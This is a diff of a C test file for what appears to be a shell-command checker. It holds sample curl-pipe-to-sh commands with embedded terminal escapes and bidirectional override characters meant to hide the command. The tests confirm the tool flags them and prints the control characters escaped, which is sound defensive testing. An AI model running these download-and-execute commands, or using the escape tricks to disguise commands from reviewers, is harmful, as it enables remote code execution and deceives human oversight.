@@ -376,8 +376,10 @@ static const char *raw_control(const char *s)
  * override, inside the text a finding quotes. */
 static const char *const erasing[] = {
     "curl \"http://x/\r\x1b[2K\x1b[1A\" | sh\n",
-    "curl \"http://x/\xc2\x9b" "2K\" | sh\n",
-    "curl \"http://x/\xe2\x80\xae" "hs | lruc\" | sh\n",
+    "curl \"http://x/\xc2\x9b"
+    "2K\" | sh\n",
+    "curl \"http://x/\xe2\x80\xae"
+    "hs | lruc\" | sh\n",
     "curl \"http://x/\xe2\x81\xa6\x7f\" | sh\n",
 };
 
@@ -388,8 +390,8 @@ Test(check_cmd, control_characters_are_shown_escaped)
 		struct proc_out o;
 		check(args, NULL, &o);
 		cr_expect_eq(o.status, 1, "[%zu] %s%s", i, o.out, o.err);
-		cr_expect(strstr(o.out, "high sh-download-exec"), "[%zu] the finding is gone: %s", i,
-			  o.out);
+		cr_expect(strstr(o.out, "high sh-download-exec"), "[%zu] the finding is gone: %s",
+			  i, o.out);
 		const char *raw = raw_control(o.out);
 		cr_expect(raw == NULL, "[%zu] a raw control character at byte %td: %s", i,
 			  raw ? raw - o.out : 0, o.out);
@@ -402,7 +404,8 @@ Test(check_cmd, control_characters_are_escaped_readably)
 	const char *args[] = {"-l", "bash", "-c", erasing[0], NULL};
 	struct proc_out o;
 	check(args, NULL, &o);
-	cr_expect(strstr(o.out, "\\r\\x1b[2K\\x1b[1A"), "%s", o.out);
+	/* a CR inside a word is shown as U+FFFD: bash reads it as part of the word */
+	cr_expect(strstr(o.out, "http://x/\xef\xbf\xbd\\x1b[2K\\x1b[1A"), "%s", o.out);
 	proc_out_free(&o);
 	const char *bidi[] = {"-l", "bash", "-c", erasing[2], NULL};
 	check(bidi, NULL, &o);
@@ -448,7 +451,7 @@ Test(run_policy, the_approve_prompt_shows_control_characters_escaped)
 	run_cmd(argv, "n\n", 30, &o);
 	cr_expect_eq(o.status, 126, "%s", o.out);
 	cr_expect(strstr(o.out, "sh-download-exec"), "%s", o.out);
-	cr_expect(strstr(o.out, "\\r\\x1b[2K\\x1b[1A"), "%s", o.out);
+	cr_expect(strstr(o.out, "\\x1b[2K\\x1b[1A"), "%s", o.out);
 	cr_expect(strstr(o.out, "\x1b[2K") == NULL, "a raw escape reached the terminal: %s", o.out);
 	proc_out_free(&o);
 }
